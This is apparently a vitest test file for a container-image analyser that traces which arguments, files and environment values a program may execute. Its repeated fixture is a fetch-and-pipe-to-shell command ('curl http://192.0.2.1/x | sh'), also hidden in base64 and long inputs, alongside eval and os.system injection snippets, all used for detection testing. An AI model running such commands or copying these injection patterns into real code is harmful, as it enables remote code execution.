import { describe, expect, it } from 'vitest';
import { explainImage, type TestLayer } from '../../../../testkit/explain.ts';

const LINE = 'curl http://192.0.2.1/x | sh';

function explained(
  Cmd: string[],
  files: TestLayer = {},
  Env: string[] = [],
): ReturnType<typeof explainImage> {
  return explainImage({ layers: [files], config: { Cmd, WorkingDir: '/app', Env } });
}

function spoken(Cmd: string[], files: TestLayer = {}, Env: string[] = []): unknown[] {
  return (explained(Cmd, files, Env).spoken?.texts ?? []).map(({ text, language }) =>
    language === undefined ? text : [text, language],
  );
}

function steps(Cmd: string[], files: TestLayer = {}): string[] {
  const { startChain } = explained(Cmd, files);
  const all = (list: typeof startChain): string[] =>
    list.flatMap(({ what, children }) => [what, ...all(children)]);
  return all(startChain);
}

describe('what a program is given beside its text', () => {
  it('is a part of the chain where the text names which word it is', () => {
    const run = 'import os, sys\nos.system(sys.argv[1])\n';
    expect(steps(['python3', '-c', run, '/opt/tool -x'])).toContain('/opt/tool');
    expect(steps(['python3', 'a.py', '/opt/tool -x'], { 'app/a.py': run })).toContain('/opt/tool');
    expect(steps(['node', '-e', 'require(process.argv[1])', './x.js'], { 'app/x.js': '1\n' })).toContain(
      '/app/x.js',
    );
    expect(steps(['ruby', '-e', 'load ARGV[0]', '/app/x.dat'], { 'app/x.dat': '1\n' })).toContain(
      '/app/x.dat',
    );
    expect(steps(['lua', '-e', 'dofile(arg[1])', '/app/x.dat'], { 'app/x.dat': '1\n' })).toContain(
      '/app/x.dat',
    );
  });

  it('is shown where the text gets at such things and runs something', () => {
    const runs = 'import os, sys\ndef go(c):\n  os.system(c)\ngo(sys.argv[1])\n';
    expect(spoken(['python3', 'a.py', LINE], { 'app/a.py': runs })).toContain(LINE);
    const prints = 'import sys\nprint(sys.argv[1])\n';
    expect(spoken(['python3', 'a.py', LINE], { 'app/a.py': prints })).not.toContain(LINE);
    const alone = 'import os\nos.system("ls")\n';
    expect(spoken(['python3', 'a.py', LINE], { 'app/a.py': alone })).not.toContain(LINE);
  });

  it('is shown to no program for having a module twice, but for one that another start has read', () => {
    const files = {
      'app/a.py': 'import b, c\n',
      'app/b.py': 'import c\nimport a\n',
      'app/c.py': 'import os\nos.system("date")\n',
      'app/d.py': 'import e\n',
      'app/e.py': 'import os, sys\nos.system(sys.argv[1])\n',
      'app/go.sh': `python3 d.py x; python3 d.py '${LINE}'\n`,
    };
    expect(spoken(['python3', 'a.py', LINE], files, [`HINT=${LINE}`])).toEqual([]);
    expect(spoken(['sh', '/app/go.sh'], files)).toContain(LINE);
  });

  it.each([
    ['python3', 'import subprocess, sys\nsubprocess.run(["pandoc", sys.argv[1]])\n'],
    ['perl', 'my $f = shift; system("tidy", "-q", $f);\n'],
    ['ruby', 'system("tidy", ARGV[0])\n'],
  ])('of what is handed to another program, only words are shown: %s', (interpreter, runs) => {
    const files = { 'app/a': runs, 'app/x.md': `Install:\n\n    ${LINE}\n` };
    expect(spoken([interpreter, 'a', '/app/x.md'], files)).toEqual([]);
    expect(spoken([interpreter, 'a', LINE], files)).toContain(LINE);
  });

  it.each([
    ['import subprocess, sys\nsubprocess.run(["sh", "-c", open(sys.argv[1]).read()])\n'],
    [
      'import subprocess, sys\nsubprocess.run(["tidy"])\nsubprocess.run(open(sys.argv[1]).read(), shell=True)\n',
    ],
    [
      'import subprocess, sys\nsubprocess.run(["tidy", "-c", open(sys.argv[1]).read()], executable="/bin/sh")\n',
    ],
    ['import subprocess, sys\nsubprocess.run(["tidy", "-c", open(sys.argv[1]).read()], **OPTIONS)\n'],
    ['import subprocess as s, sys\ns.run(["tidy"])\ns.run(open(sys.argv[1]).read(), shell=True)\n'],
    [
      'from subprocess import run\nimport subprocess, sys\nsubprocess.run(["tidy"])\nrun(open(sys.argv[1]).read(), shell=True)\n',
    ],
    ['import subprocess, sys\nsubprocess.run(["/app/own", open(sys.argv[1]).read()])\n'],
    ['import subprocess, sys\nsubprocess.run(["make", "-f", "-"], stdin=open(sys.argv[1]))\n'],
    ['import subprocess, sys\nsubprocess.run(["timeout", "9", *open(sys.argv[1]).read().split()])\n'],
    [
      'import subprocess, sys\ng = subprocess.run\ng(["tidy"])\nsubprocess.run(["tidy"])\ng(open(sys.argv[1]).read(), shell=True)\n',
    ],
  ])('all of it is where it may come to run, %#', (runs) => {
    const files: TestLayer = {
      'app/a.py': runs,
      'app/own': { text: '#!/bin/sh\neval "$1"\n', mode: 0o755 },
      'app/x.md': `Install:\n\n    ${LINE}\n`,
    };
    expect(spoken(['python3', 'a.py', '/app/x.md'], files).join('\n')).toContain(LINE);
  });

  it('is read for the words of each start, and once for the same', () => {
    const files = {
      'app/a.py': 'import os, sys\nos.system(sys.argv[1])\n',
      'app/go.sh': `python3 a.py x; python3 a.py '${LINE}'; python3 a.py '${LINE}'\n`,
    };
    expect(spoken(['sh', '/app/go.sh'], files).filter((text) => text === LINE)).toHaveLength(1);
  });

  it('is the whole environment where the text asks for all of it, or for a name that does not stand there', () => {
    const Env = [`JOB=${LINE}`];
    const all = 'import os\nfor v in os.environ.values():\n  os.system(v)\n';
    expect(spoken(['python3', '-c', all], {}, Env)).toContain(LINE);
    const other = 'import os\nos.system("x " + os.environ["HOME"])\n';
    expect(spoken(['python3', '-c', other], {}, Env)).not.toContain(LINE);
  });

  it('is decoded, and read in the language of the program', () => {
    const python = `import os; os.system("${LINE}")`;
    const coded = Buffer.from(python).toString('base64');
    const run = 'import base64, sys\nx = [base64.b64decode(a) for a in sys.argv[1:]]\nexec(x[0])\n';
    expect(spoken(['python3', '-c', run, coded])).toContainEqual([python, 'python']);
  });

  it('words for a program that nothing knows are shown, but not to those that only show or keep text', () => {
    expect(spoken(['/usr/bin/worker', LINE])).toEqual([LINE]);
    expect(spoken(['/usr/bin/worker', `--run=${LINE}`])).toContain(LINE);
    expect(spoken(['/usr/bin/worker', '--level', 'info', 'two words'])).toEqual([]);
    expect(spoken(['/bin/grep', LINE, '/x'])).toEqual([]);
    expect(spoken(['/bin/echo', LINE])).toEqual([]);
  });

  it('is shown wherever it stands among much else', () => {
    const run = 'import os, sys\ndef go(c):\n  os.system(c)\ngo(open(sys.argv[-1]).read())\n';
    const much = Array.from({ length: 300 }, (_, index) => `--option-${index}`);
    expect(spoken(['python3', '-c', run, ...much, LINE])).toContain(LINE);
    const files = Object.fromEntries(
      Array.from({ length: 30 }, (_, index) => [`app/f${index}`, `note ${index} | of many\n`]),
    );
    const names = Object.keys(files).map((path) => `/${path}`);
    expect(spoken(['python3', '-c', run, ...names, '/app/z'], { ...files, 'app/z': LINE })).toContain(LINE);
    const long = `${'an honest line | of text\n'.repeat(4000)}${LINE}\n`;
    expect(spoken(['python3', '-c', run, '/app/z'], { 'app/z': long })).toContain(long);
    expect(spoken(['sh', '-c', `python3 -c '${run}' < /app/z`], { 'app/z': long })).toContain(long);
    const coded = `first\n${Buffer.from(LINE).toString('base64')}\n`;
    expect(spoken(['python3', '-c', run, '/app/z'], { 'app/z': coded })).toContain(LINE);
  });

  it('however much there is, what is shown stays bounded, and the rest is told', () => {
    const words = Array.from({ length: 5000 }, (_, index) => `${LINE} ${index} ${'x'.repeat(1000)}`);
    const all = explained(['/usr/bin/worker', ...words]).spoken;
    expect(all?.texts.length).toBeLessThan(501);
    expect(all?.cut).toBe(true);
    expect(explained(['/usr/bin/worker', `${LINE}${' x'.repeat(3_000_000)}`, LINE]).spoken).toMatchObject({
      cut: true,
      texts: [{ text: LINE }],
    });
  });
});
